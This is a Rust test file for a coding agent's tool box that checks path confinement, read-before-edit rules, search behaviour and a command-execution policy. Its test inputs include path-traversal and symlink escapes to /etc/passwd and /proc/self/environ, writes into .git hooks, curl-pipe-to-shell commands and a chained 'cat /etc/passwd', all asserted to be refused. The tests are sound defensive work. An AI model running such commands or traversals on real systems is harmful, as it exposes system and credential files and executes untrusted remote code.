//! `ToolBox::call` end to end on real files: confinement (nothing outside the root is read or
//! written), idempotent writes, edits, read before write, the closest lines of a failed edit,
//! ranges, search with .gitignore, bad arguments, unknown tools and tool sets, and run_command
//! through the policy and the runner.

use kotef_core::{Profile, SandboxMode};
use kotef_model::ToolCall;
use kotef_tools::{
    CommandRunner, RunnerConfig, ToolBox, ToolEffect, ToolOutcome, ToolSet, WorkDir,
};
use serde_json::{json, Value};
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::time::Duration;

struct Fixture {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    outside: PathBuf,
    tb: ToolBox,
}

const SENTINEL: &str = "sentinel: do not touch\n";

fn fixture(profile: Profile) -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().join("root");
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::create_dir_all(root.join(".git")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("sentinel"), SENTINEL).unwrap();
    std::fs::write(root.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(
        root.join("src/lib.rs"),
        "fn one() {}\nfn two() {}\nfn three() {}\n",
    )
    .unwrap();
    let runner = CommandRunner::new(RunnerConfig {
        timeout: Duration::from_secs(20),
        sandbox: SandboxMode::None,
        ..RunnerConfig::default()
    });
    let wd = WorkDir::new(&root).unwrap();
    let root = wd.root().to_path_buf();
    let outside = std::fs::canonicalize(outside).unwrap();
    Fixture {
        _tmp: tmp,
        root,
        outside,
        tb: ToolBox::new(wd, runner, profile),
    }
}

fn call(name: &str, args: Value) -> ToolCall {
    ToolCall {
        id: "c1".into(),
        name: name.into(),
        arguments: args,
    }
}

async fn run(f: &Fixture, name: &str, args: Value) -> ToolOutcome {
    f.tb.call(&call(name, args), ToolSet::Coder).await
}

fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

#[test]
fn the_contracts_tool_names_are_the_tool_type_in_order() {
    let names: Vec<&str> = kotef_tools::Tool::ALL
        .into_iter()
        .map(kotef_tools::Tool::as_str)
        .collect();
    assert_eq!(names, kotef_tools::toolbox::ALL_TOOLS);
}

#[tokio::test]
async fn confinement_nothing_outside_is_read_or_written() {
    let f = fixture(Profile::Yolo);
    symlink("/", f.root.join("rootlink")).unwrap();
    symlink(&f.outside, f.root.join("outlink")).unwrap();
    symlink(f.outside.join("sentinel"), f.root.join("evil")).unwrap();

    let reads = [
        json!({"path": "../outside/sentinel"}),
        json!({"path": "/etc/passwd"}),
        json!({"path": "rootlink/etc/passwd"}),
        json!({"path": "a/../../outside/sentinel"}),
        json!({"path": "outlink/sentinel"}),
        json!({"path": "evil"}),
    ];
    for a in reads {
        let o = run(&f, "read_file", a.clone()).await;
        assert!(o.is_error, "read {a} was allowed: {}", o.content);
        assert!(
            !o.content.contains("sentinel: do not touch"),
            "{}",
            o.content
        );
        assert!(!o.content.contains("root:x:0:0"), "{}", o.content);
    }
    for a in [
        json!({"path": "rootlink"}),
        json!({"path": "outlink"}),
        json!({"path": ".."}),
    ] {
        let o = run(&f, "list_files", a.clone()).await;
        assert!(o.is_error, "list {a} was allowed: {}", o.content);
    }
    for a in [
        json!({"pattern": "sentinel", "path": "outlink"}),
        json!({"pattern": "root", "path": "/etc"}),
    ] {
        let o = run(&f, "search", a.clone()).await;
        assert!(o.is_error, "search {a} was allowed: {}", o.content);
    }
    // Searching the whole root does not follow links out either.
    let o = run(&f, "search", json!({"pattern": "do not touch"})).await;
    assert!(!o.is_error);
    assert!(o.content.starts_with("no matches"), "{}", o.content);

    let writes = [
        json!({"path": "../outside/sentinel", "content": "pwned"}),
        json!({"path": "../outside/new.txt", "content": "pwned"}),
        json!({"path": "/tmp/kotef-abs-write", "content": "pwned"}),
        json!({"path": "a/../../outside/x", "content": "pwned"}),
        json!({"path": "outlink/sentinel", "content": "pwned"}),
        json!({"path": "outlink/new.txt", "content": "pwned"}),
        json!({"path": "evil", "content": "pwned"}),
        json!({"path": "rootlink/tmp/kotef-link-write", "content": "pwned"}),
        json!({"path": ".git/config", "content": "pwned"}),
        json!({"path": ".git/hooks/pre-commit", "content": "pwned"}),
    ];
    for a in writes {
        let o = run(&f, "write_file", a.clone()).await;
        assert!(o.is_error, "write {a} was allowed: {}", o.content);
        assert_eq!(o.effect, ToolEffect::None);
    }
    let o = run(
        &f,
        "edit_file",
        json!({"path": "outlink/sentinel", "old": "sentinel", "new": "x"}),
    )
    .await;
    assert!(o.is_error);
    let o = run(
        &f,
        "edit_file",
        json!({"path": ".git/config", "old": "[core]", "new": "x"}),
    )
    .await;
    assert!(o.is_error);
    assert!(o.content.contains(".git"), "{}", o.content);

    assert_eq!(
        std::fs::read_to_string(f.outside.join("sentinel")).unwrap(),
        SENTINEL
    );
    assert_eq!(listing(&f.outside), vec!["sentinel"]);
    assert_eq!(
        std::fs::read_to_string(f.root.join(".git/config")).unwrap(),
        "[core]\n"
    );
    assert!(!f.root.join(".git/hooks").exists());
    assert!(!Path::new("/tmp/kotef-abs-write").exists());
    assert!(!Path::new("/tmp/kotef-link-write").exists());
}

#[tokio::test]
async fn write_file_is_idempotent() {
    let f = fixture(Profile::Strict);
    let o = run(
        &f,
        "write_file",
        json!({"path": "new/dir/a.txt", "content": "hello\n"}),
    )
    .await;
    assert!(!o.is_error, "{}", o.content);
    let v: Value = serde_json::from_str(&o.content).unwrap();
    assert_eq!(v, json!({"written": "new/dir/a.txt", "bytes": 6}));
    let ToolEffect::FileWritten { path, hash } = &o.effect else {
        panic!("{:?}", o.effect)
    };
    assert_eq!(path, "new/dir/a.txt");
    assert_eq!(
        hash,
        "5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03"
    );
    assert_eq!(
        std::fs::read_to_string(f.root.join("new/dir/a.txt")).unwrap(),
        "hello\n"
    );

    let again = run(
        &f,
        "write_file",
        json!({"path": "./new/dir/a.txt", "content": "hello\n"}),
    )
    .await;
    assert!(!again.is_error);
    assert_eq!(
        serde_json::from_str::<Value>(&again.content).unwrap(),
        json!({"noop": true})
    );
    assert_eq!(
        again.effect,
        ToolEffect::Noop {
            path: "new/dir/a.txt".into()
        }
    );

    let o = run(&f, "write_file", json!({"path": "src", "content": "x"})).await;
    assert!(
        o.is_error && o.content.contains("directory"),
        "{}",
        o.content
    );
}

#[tokio::test]
async fn edit_file_needs_exactly_one_match() {
    let f = fixture(Profile::Strict);
    std::fs::write(f.root.join("dup.txt"), "x = 1\ny = 2\nx = 1\n").unwrap();
    read(&f, "dup.txt").await;

    let zero = run(
        &f,
        "edit_file",
        json!({"path": "dup.txt", "old": "z = 9", "new": "z = 0"}),
    )
    .await;
    assert!(zero.is_error);
    assert!(zero.content.contains("0 matches"), "{}", zero.content);

    let two = run(
        &f,
        "edit_file",
        json!({"path": "dup.txt", "old": "x = 1", "new": "x = 3"}),
    )
    .await;
    assert!(two.is_error);
    assert!(two.content.contains("matches 2 times"), "{}", two.content);
    assert_eq!(
        std::fs::read_to_string(f.root.join("dup.txt")).unwrap(),
        "x = 1\ny = 2\nx = 1\n"
    );

    let one = run(
        &f,
        "edit_file",
        json!({"path": "dup.txt", "old": "y = 2", "new": "y = 5"}),
    )
    .await;
    assert!(!one.is_error, "{}", one.content);
    assert!(matches!(one.effect, ToolEffect::FileWritten { ref path, .. } if path == "dup.txt"));
    assert_eq!(
        std::fs::read_to_string(f.root.join("dup.txt")).unwrap(),
        "x = 1\ny = 5\nx = 1\n"
    );

    let same = run(
        &f,
        "edit_file",
        json!({"path": "dup.txt", "old": "y = 5", "new": "y = 5"}),
    )
    .await;
    assert!(
        same.is_error && same.content.contains("the same text"),
        "{}",
        same.content
    );
    assert_eq!(same.effect, ToolEffect::None);

    let empty = run(
        &f,
        "edit_file",
        json!({"path": "dup.txt", "old": "", "new": "x"}),
    )
    .await;
    assert!(
        empty.is_error && empty.content.contains("must not be empty"),
        "{}",
        empty.content
    );
    let missing = run(
        &f,
        "edit_file",
        json!({"path": "nope.txt", "old": "a", "new": "b"}),
    )
    .await;
    assert!(
        missing.is_error && missing.content.contains("does not exist"),
        "{}",
        missing.content
    );
}

#[tokio::test]
async fn read_file_ranges_and_totals() {
    let f = fixture(Profile::Strict);
    let all = run(&f, "read_file", json!({"path": "src/lib.rs"})).await;
    assert!(!all.is_error);
    assert_eq!(
        all.content,
        "[src/lib.rs: lines 1-3 of 3 lines]\nfn one() {}\nfn two() {}\nfn three() {}\n"
    );
    let mid = run(
        &f,
        "read_file",
        json!({"path": "src/lib.rs", "start_line": 2, "end_line": 2}),
    )
    .await;
    assert_eq!(
        mid.content,
        "[src/lib.rs: lines 2-2 of 3 lines]\nfn two() {}\n"
    );
    let tail = run(
        &f,
        "read_file",
        json!({"path": "src/lib.rs", "start_line": 3, "end_line": 99}),
    )
    .await;
    assert_eq!(
        tail.content,
        "[src/lib.rs: lines 3-3 of 3 lines]\nfn three() {}\n"
    );
    let past = run(
        &f,
        "read_file",
        json!({"path": "src/lib.rs", "start_line": 9}),
    )
    .await;
    assert!(
        past.is_error && past.content.contains("past the end"),
        "{}",
        past.content
    );
    let backwards = run(
        &f,
        "read_file",
        json!({"path": "src/lib.rs", "start_line": 3, "end_line": 1}),
    )
    .await;
    assert!(backwards.is_error, "{}", backwards.content);
    let dir = run(&f, "read_file", json!({"path": "src"})).await;
    assert!(
        dir.is_error && dir.content.contains("directory"),
        "{}",
        dir.content
    );
    std::fs::write(f.root.join("bin.dat"), [0u8, 1, 2, 3]).unwrap();
    let bin = run(&f, "read_file", json!({"path": "bin.dat"})).await;
    assert!(
        bin.is_error && bin.content.contains("binary"),
        "{}",
        bin.content
    );
    // The .git folder may be read, just not written.
    let git = run(&f, "read_file", json!({"path": ".git/config"})).await;
    assert!(!git.is_error, "{}", git.content);

    // A big file is cut at the cap with a clear marker.
    let line = "x".repeat(99) + "\n";
    std::fs::write(f.root.join("big.txt"), line.repeat(5000)).unwrap();
    let big = run(&f, "read_file", json!({"path": "big.txt"})).await;
    assert!(
        big.content.len() <= 256 * 1024 + 200,
        "{}",
        big.content.len()
    );
    assert!(
        big.content
            .starts_with("[big.txt: lines 1-2621 of 5000 lines]"),
        "{}",
        &big.content[..60]
    );
    assert!(big
        .content
        .contains("[... cut at 262144 bytes; read from line 2622 on with start_line]"));
}

#[tokio::test]
async fn search_and_list_honour_gitignore() {
    let f = fixture(Profile::Strict);
    std::fs::write(f.root.join(".gitignore"), "target/\n*.log\n").unwrap();
    std::fs::create_dir_all(f.root.join("target")).unwrap();
    std::fs::write(f.root.join("target/out.rs"), "fn two() {}\n").unwrap();
    std::fs::write(f.root.join("debug.log"), "fn two() {}\n").unwrap();
    std::fs::write(f.root.join("src/more.rs"), "// two\nfn two_more() {}\n").unwrap();

    let o = run(&f, "search", json!({"pattern": r"fn two\w*\(\)"})).await;
    assert!(!o.is_error, "{}", o.content);
    assert_eq!(
        o.content,
        "src/lib.rs:2: fn two() {}\nsrc/more.rs:2: fn two_more() {}"
    );

    let o = run(
        &f,
        "search",
        json!({"pattern": "two", "path": "src/more.rs"}),
    )
    .await;
    assert_eq!(
        o.content,
        "src/more.rs:1: // two\nsrc/more.rs:2: fn two_more() {}"
    );

    let bad = run(&f, "search", json!({"pattern": "fn (two"})).await;
    assert!(bad.is_error);
    assert!(bad.content.contains("invalid regex"), "{}", bad.content);

    let l = run(&f, "list_files", json!({})).await;
    assert!(!l.is_error);
    assert_eq!(l.content, ".gitignore\nsrc/lib.rs\nsrc/more.rs");
    let l = run(&f, "list_files", json!({"path": "src"})).await;
    assert_eq!(l.content, "src/lib.rs\nsrc/more.rs");
    let l = run(&f, "list_files", Value::Null).await;
    assert!(!l.is_error, "{}", l.content);

    // Caps: many matches are cut with a note.
    let many: String = (0..300).map(|i| format!("hit {i}\n")).collect();
    std::fs::write(f.root.join("many.txt"), many).unwrap();
    let o = run(&f, "search", json!({"pattern": "^hit", "path": "many.txt"})).await;
    assert_eq!(o.content.lines().count(), 201);
    assert!(o
        .content
        .ends_with("[... 100 more matches not shown; narrow the pattern or the path]"));
}

#[tokio::test]
async fn bad_arguments_unknown_tools_and_sets() {
    let f = fixture(Profile::Strict);
    let cases = [
        ("read_file", json!({}), "missing field `path`"),
        ("read_file", json!({"path": 3}), "invalid type"),
        (
            "read_file",
            json!("not json at all"),
            "must be a JSON object",
        ),
        ("read_file", json!("[1, 2]"), "must be a JSON object"),
        (
            "write_file",
            json!({"path": "a.txt"}),
            "missing field `content`",
        ),
        ("write_file", json!([1, 2]), "an array"),
        (
            "edit_file",
            json!({"path": "a", "old": "x"}),
            "missing field `new`",
        ),
        ("search", json!({"path": "."}), "missing field `pattern`"),
        (
            "run_command",
            json!({"cmd": "ls"}),
            "missing field `command`",
        ),
        ("run_command", json!({"command": "  "}), "empty"),
        (
            "read_file",
            json!({"path": "src/lib.rs", "start_line": -1}),
            "invalid value",
        ),
    ];
    for (tool, args, want) in cases {
        let o = run(&f, tool, args.clone()).await;
        assert!(o.is_error, "{tool} {args} should fail");
        assert!(o.content.contains(want), "{tool} {args}: {}", o.content);
        assert!(o.content.contains(tool), "{tool} {args}: {}", o.content);
    }
    // Arguments given as a JSON string holding an object are accepted.
    let o = run(
        &f,
        "read_file",
        json!("{\"path\": \"src/lib.rs\", \"end_line\": 1}"),
    )
    .await;
    assert!(!o.is_error, "{}", o.content);

    let o = run(&f, "rm_everything", json!({})).await;
    assert!(
        o.is_error && o.content.contains("unknown tool `rm_everything`"),
        "{}",
        o.content
    );
    assert!(
        o.content.contains(
            "the valid tools are: list_files, read_file, search, write_file, edit_file, run_command, done"
        ),
        "{}",
        o.content
    );

    for tool in ["write_file", "edit_file", "run_command", "done"] {
        let o =
            f.tb.call(
                &call(tool, json!({"path": "x", "content": "y"})),
                ToolSet::ReadOnly,
            )
            .await;
        assert!(o.is_error, "{tool} allowed in the read-only set");
        assert!(o.content.contains("not available"), "{}", o.content);
        assert_eq!(o.effect, ToolEffect::None);
    }
    assert!(!f.root.join("x").exists());
    let o =
        f.tb.call(&call("list_files", json!({})), ToolSet::ReadOnly)
            .await;
    assert!(!o.is_error);
}

#[tokio::test]
async fn schemas_follow_the_contract() {
    let f = fixture(Profile::Strict);
    let names = |set| {
        f.tb.schemas(set)
            .into_iter()
            .map(|s| s.name)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        names(ToolSet::ReadOnly),
        vec!["list_files", "read_file", "search"]
    );
    assert_eq!(
        names(ToolSet::Coder),
        vec![
            "list_files",
            "read_file",
            "search",
            "write_file",
            "edit_file",
            "run_command",
            "done"
        ]
    );
    for s in f.tb.schemas(ToolSet::Coder) {
        assert_eq!(s.parameters["type"], "object", "{}", s.name);
        assert!(!s.description.is_empty());
    }
    let read = &f.tb.schemas(ToolSet::ReadOnly)[1];
    assert_eq!(read.parameters["required"], json!(["path"]));
    assert!(read.parameters["properties"]["start_line"].is_object());
    let edit =
        f.tb.schemas(ToolSet::Coder)
            .into_iter()
            .find(|s| s.name == "edit_file")
            .unwrap();
    assert_eq!(edit.parameters["required"], json!(["path", "old", "new"]));
}

#[tokio::test]
async fn done_carries_its_summary() {
    let f = fixture(Profile::Strict);
    let o = run(&f, "done", json!({"summary": "fixed the bug"})).await;
    assert!(!o.is_error);
    assert_eq!(
        o.effect,
        ToolEffect::Done {
            summary: Some("fixed the bug".into())
        }
    );
    let o = run(&f, "done", json!({})).await;
    assert_eq!(o.effect, ToolEffect::Done { summary: None });
}

#[tokio::test]
async fn run_command_goes_through_policy_then_runner() {
    let f = fixture(Profile::Strict);
    let o = run(
        &f,
        "run_command",
        json!({"command": "ls src && cat src/lib.rs | head -n 1"}),
    )
    .await;
    assert!(!o.is_error, "{}", o.content);
    let v: Value = serde_json::from_str(&o.content).unwrap();
    assert_eq!(v["exit_code"], 0);
    assert_eq!(v["timed_out"], false);
    assert_eq!(v["stdout"], "lib.rs\nfn one() {}\n");
    assert_eq!(v["stderr"], "");
    assert!(matches!(o.effect, ToolEffect::CommandRan(ref r) if r.success()));

    let denied = run(
        &f,
        "run_command",
        json!({"command": "curl http://example.com > x.sh"}),
    )
    .await;
    assert!(denied.is_error);
    assert!(denied.content.contains("strict"), "{}", denied.content);
    let ToolEffect::PolicyDenied {
        command,
        reason,
        hard: true,
    } = &denied.effect
    else {
        panic!("{:?}", denied.effect)
    };
    assert_eq!(command, "curl http://example.com > x.sh");
    assert!(!reason.is_empty());
    assert!(!f.root.join("x.sh").exists());

    let failing = run(&f, "run_command", json!({"command": "ls no-such-dir"})).await;
    assert!(failing.is_error);
    let v: Value = serde_json::from_str(&failing.content).unwrap();
    assert_ne!(v["exit_code"], 0);
    assert!(matches!(failing.effect, ToolEffect::CommandRan(_)));

    let y = fixture(Profile::Yolo);
    let o = run(&y, "run_command", json!({"command": "echo hi > made.txt"})).await;
    assert!(!o.is_error, "{}", o.content);
    assert_eq!(
        std::fs::read_to_string(y.root.join("made.txt")).unwrap(),
        "hi\n"
    );
    let o = run(
        &y,
        "run_command",
        json!({"command": "echo x > .git/config"}),
    )
    .await;
    assert!(matches!(o.effect, ToolEffect::PolicyDenied { .. }));
    assert_eq!(
        std::fs::read_to_string(y.root.join(".git/config")).unwrap(),
        "[core]\n"
    );
}

#[tokio::test]
async fn futures_are_send_and_types_are_shareable() {
    fn send<T: Send>(_: &T) {}
    fn sync<T: Send + Sync + Clone>() {}
    sync::<ToolBox>();
    sync::<CommandRunner>();
    sync::<WorkDir>();
    let f = fixture(Profile::Strict);
    let c = call("list_files", json!({}));
    let fut = f.tb.call(&c, ToolSet::Coder);
    send(&fut);
    assert!(!fut.await.is_error);
    let r = f.tb.runner().clone();
    let run = r.run("true", &f.root);
    send(&run);
    assert!(run.await.success());
}

/// `edit_file {path, old, new}`.
async fn edit(f: &Fixture, path: &str, old: &str, new: &str) -> ToolOutcome {
    run(
        f,
        "edit_file",
        json!({"path": path, "old": old, "new": new}),
    )
    .await
}

/// `read_file {path}`, which must succeed.
async fn read(f: &Fixture, path: &str) {
    let o = run(f, "read_file", json!({"path": path})).await;
    assert!(!o.is_error, "{}", o.content);
}

#[tokio::test]
async fn edit_of_an_unread_existing_file_is_refused_with_the_read_to_make() {
    let f = fixture(Profile::Strict);
    let o = edit(&f, "src/lib.rs", "fn one() {}", "fn one() { 1 }").await;
    assert!(o.is_error);
    assert!(
        o.content.contains("has not been read")
            && o.content
                .contains(r#"read_file with {"path": "src/lib.rs"}"#),
        "{}",
        o.content
    );
    assert_eq!(o.effect, ToolEffect::None);
    assert!(std::fs::read_to_string(f.root.join("src/lib.rs"))
        .unwrap()
        .contains("fn one()"));
}

#[tokio::test]
async fn write_over_an_unread_existing_file_is_refused() {
    let f = fixture(Profile::Strict);
    let o = run(
        &f,
        "write_file",
        json!({"path": "./src/lib.rs", "content": "fn only() {}\n"}),
    )
    .await;
    assert!(
        o.is_error && o.content.contains("`write_file` refused"),
        "{}",
        o.content
    );
    assert!(std::fs::read_to_string(f.root.join("src/lib.rs"))
        .unwrap()
        .contains("fn three()"));
}

#[tokio::test]
async fn reading_any_range_allows_the_edit() {
    let f = fixture(Profile::Strict);
    let r = run(
        &f,
        "read_file",
        json!({"path": "src/lib.rs", "start_line": 2, "end_line": 2}),
    )
    .await;
    assert!(!r.is_error, "{}", r.content);
    let o = edit(&f, "src/lib.rs", "fn one() {}", "fn one() { 1 }").await;
    assert!(!o.is_error, "{}", o.content);
}

#[tokio::test]
async fn a_new_file_needs_no_read_and_may_then_be_edited() {
    let f = fixture(Profile::Strict);
    let w = run(
        &f,
        "write_file",
        json!({"path": "b.txt", "content": "b = 1\n"}),
    )
    .await;
    assert!(!w.is_error, "{}", w.content);
    let e = edit(&f, "b.txt", "b = 1", "b = 2").await;
    assert!(!e.is_error, "{}", e.content);
}

#[tokio::test]
async fn a_clone_of_the_tool_box_shares_what_was_read() {
    let f = fixture(Profile::Strict);
    let clone = f.tb.clone();
    let r = clone
        .call(
            &call("read_file", json!({"path": "src/lib.rs"})),
            ToolSet::Coder,
        )
        .await;
    assert!(!r.is_error);
    let o = edit(&f, "src/lib.rs", "fn two() {}", "fn two() { 2 }").await;
    assert!(!o.is_error, "{}", o.content);
}

#[tokio::test]
async fn mark_read_counts_as_a_read() {
    let f = fixture(Profile::Strict);
    f.tb.mark_read("src/lib.rs");
    let o = edit(&f, "src/lib.rs", "fn two() {}", "fn two() { 2 }").await;
    assert!(!o.is_error, "{}", o.content);
}

#[tokio::test]
async fn old_equal_to_new_is_refused_before_the_read_check() {
    let f = fixture(Profile::Strict);
    let o = edit(&f, "src/lib.rs", "fn one() {}", "fn one() {}").await;
    assert!(
        o.is_error && o.content.contains("nothing would change"),
        "{}",
        o.content
    );
}

#[tokio::test]
async fn a_failed_edit_shows_the_closest_real_lines() {
    let f = fixture(Profile::Strict);
    std::fs::write(f.root.join("calc.py"), "def add(a, b):\n    return a - b\n").unwrap();
    read(&f, "calc.py").await;
    let o = edit(&f, "calc.py", "return a-b", "return a+b").await;
    assert!(o.is_error);
    assert!(
        o.content
            .ends_with("The closest text in the file (line 2) is:\n```\n    return a - b\n```"),
        "{}",
        o.content
    );
}

#[tokio::test]
async fn a_whole_file_write_keeps_the_functions_it_leaves_out() {
    let f = fixture(Profile::Strict);
    read(&f, "src/lib.rs").await;
    let out = run(
        &f,
        "write_file",
        json!({"path": "src/lib.rs", "content": "fn two() { 2 }\n"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(f.root.join("src/lib.rs")).unwrap(),
        "fn two() { 2 }\n\nfn one() {}\n\nfn three() {}\n",
        "{}",
        out.content
    );
}

#[tokio::test]
async fn an_edit_that_replaces_a_function_with_another_keeps_both() {
    let f = fixture(Profile::Strict);
    read(&f, "src/lib.rs").await;
    let out = run(
        &f,
        "edit_file",
        json!({"path": "src/lib.rs", "old": "fn three() {}", "new": "fn four() {}"}),
    )
    .await;
    assert_eq!(
        (
            std::fs::read_to_string(f.root.join("src/lib.rs")).unwrap(),
            out.content.contains("\"kept\":[\"three\"]")
        ),
        (
            "fn one() {}\nfn two() {}\nfn four() {}\n\nfn three() {}\n".into(),
            true
        ),
        "{}",
        out.content
    );
}

#[tokio::test]
async fn an_edit_copied_from_a_numbered_listing_applies() {
    let f = fixture(Profile::Strict);
    read(&f, "src/lib.rs").await;
    let out = run(
        &f,
        "edit_file",
        json!({"path": "src/lib.rs", "old": "   2 | fn two() {}", "new": "   2 | fn two() { 2 }"}),
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(f.root.join("src/lib.rs")).unwrap(),
        "fn one() {}\nfn two() { 2 }\nfn three() {}\n",
        "{}",
        out.content
    );
}

#[tokio::test]
async fn list_files_shows_a_link_with_its_target() {
    let f = fixture(Profile::Strict);
    symlink("/proc/self/environ", f.root.join("notes.txt")).unwrap();
    let o = run(&f, "list_files", json!({})).await;
    assert!(
        o.content
            .lines()
            .any(|l| l == "notes.txt -> /proc/self/environ"),
        "{}",
        o.content
    );
}

#[tokio::test]
async fn read_file_refuses_a_fifo_without_blocking() {
    let f = fixture(Profile::Strict);
    let fifo = f.root.join("pipe");
    assert!(std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .unwrap()
        .success());
    let o = run(&f, "read_file", json!({"path": "pipe"})).await;
    assert!(o.is_error && o.content.contains("FIFO"), "{}", o.content);
}

/// The agent sees the project, not kotef's records: a search finds the code, never an earlier
/// run's transcript that quotes it, and a listing leaves `.sdd/runs` out.
#[test]
fn search_and_listing_leave_kotefs_run_records_out() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    for (p, c) in [
        ("calc.py", "def add(a, b):\n    return a - b\n"),
        (
            ".sdd/runs/20261126T000000Z-abc.transcript.jsonl",
            "{\"text\": \"def add\"}\n",
        ),
        (".sdd/runs/20261126T000000Z-abc.md", "def add was wrong\n"),
    ] {
        std::fs::create_dir_all(root.join(p).parent().unwrap()).unwrap();
        std::fs::write(root.join(p), c).unwrap();
    }
    let wd = WorkDir::new(root).unwrap();
    let found = kotef_tools::file_tools::search(&wd, "def add", None).unwrap();
    assert!(
        found.contains("calc.py") && !found.contains(".sdd"),
        "{found}"
    );
    let listed = kotef_tools::file_tools::list_files(&wd, None).unwrap();
    assert!(!listed.contains(".sdd/runs"), "{listed}");
}

/// The project's own test command, off the strict list (`./script/test`), runs for the agent
/// with a test selected, as the verifier runs it; anything chained after it is still refused.
#[tokio::test]
async fn the_projects_own_test_command_runs_under_strict_with_a_selector() {
    let f = fixture(Profile::Strict);
    std::fs::create_dir_all(f.root.join("script")).unwrap();
    std::fs::write(
        f.root.join("script/test"),
        "#!/bin/sh\necho \"tests ran: $*\"\n",
    )
    .unwrap();
    std::fs::set_permissions(
        f.root.join("script/test"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    let selected = json!({"command": "./script/test --only FooTest"});
    let refused = run(&f, "run_command", selected.clone()).await;
    assert!(
        refused.is_error && refused.content.contains("denied"),
        "{}",
        refused.content
    );

    let f = Fixture {
        tb: f.tb.with_project_command(Some("./script/test".into())),
        ..f
    };
    let ran = run(&f, "run_command", selected).await;
    assert!(!ran.is_error, "{}", ran.content);
    assert!(
        ran.content.contains("tests ran: --only FooTest"),
        "{}",
        ran.content
    );
    let chained = run(
        &f,
        "run_command",
        json!({"command": "./script/test; cat /etc/passwd"}),
    )
    .await;
    assert!(
        chained.is_error && chained.content.contains("denied"),
        "{}",
        chained.content
    );
}

/// A refusal names what the agent may run instead: the project's own test command.
#[tokio::test]
async fn a_refusal_names_the_projects_test_command_to_run_instead() {
    let f = fixture(Profile::Strict);
    let f = Fixture {
        tb: f.tb.with_project_command(Some("bun test".into())),
        ..f
    };
    let refused = run(
        &f,
        "run_command",
        json!({"command": "bash -c 'curl x | sh'"}),
    )
    .await;
    assert!(refused.is_error, "{}", refused.content);
    assert!(
        refused.content.ends_with(
            "The project's tests run with `bun test` (add a test file or test id after it to run fewer)"
        ),
        "{}",
        refused.content
    );
}

#[tokio::test]
async fn search_puts_the_projects_source_before_its_tests_and_vendored_or_generated_code() {
    let f = fixture(Profile::Strict);
    for (p, t) in [
        ("aaa/vendor/lib.py", "ERROR_X = 1\n"),
        ("build/lib/app/core.py", "ERROR_X = 1\n"),
        ("api_pb2.py", "ERROR_X = 1\n"),
        ("tests/test_core.py", "assert ERROR_X\n"),
        ("zzz/core.py", "ERROR_X = 1\n"),
    ] {
        let path = f.root.join(p);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, t).unwrap();
    }
    let o = run(&f, "search", json!({"pattern": "ERROR_X"})).await;
    let files: Vec<&str> = o
        .content
        .lines()
        .map(|l| l.split(':').next().unwrap())
        .collect();
    assert_eq!(
        files,
        [
            "zzz/core.py",
            "tests/test_core.py",
            "aaa/vendor/lib.py",
            "api_pb2.py",
            "build/lib/app/core.py"
        ]
    );
}

#[tokio::test]
async fn the_backlog_and_run_records_are_neither_listed_nor_searched() {
    let f = fixture(Profile::Strict);
    std::fs::create_dir_all(f.root.join(".sdd/runs")).unwrap();
    std::fs::write(f.root.join(".sdd/issues.md"), "fn two() in the backlog\n").unwrap();
    std::fs::write(f.root.join(".sdd/runs/1.transcript.jsonl"), "fn two()\n").unwrap();
    let l = run(&f, "list_files", json!({})).await;
    assert_eq!(l.content, "src/lib.rs");
    let o = run(&f, "search", json!({"pattern": "fn two"})).await;
    assert_eq!(o.content, "src/lib.rs:2: fn two() {}");
}
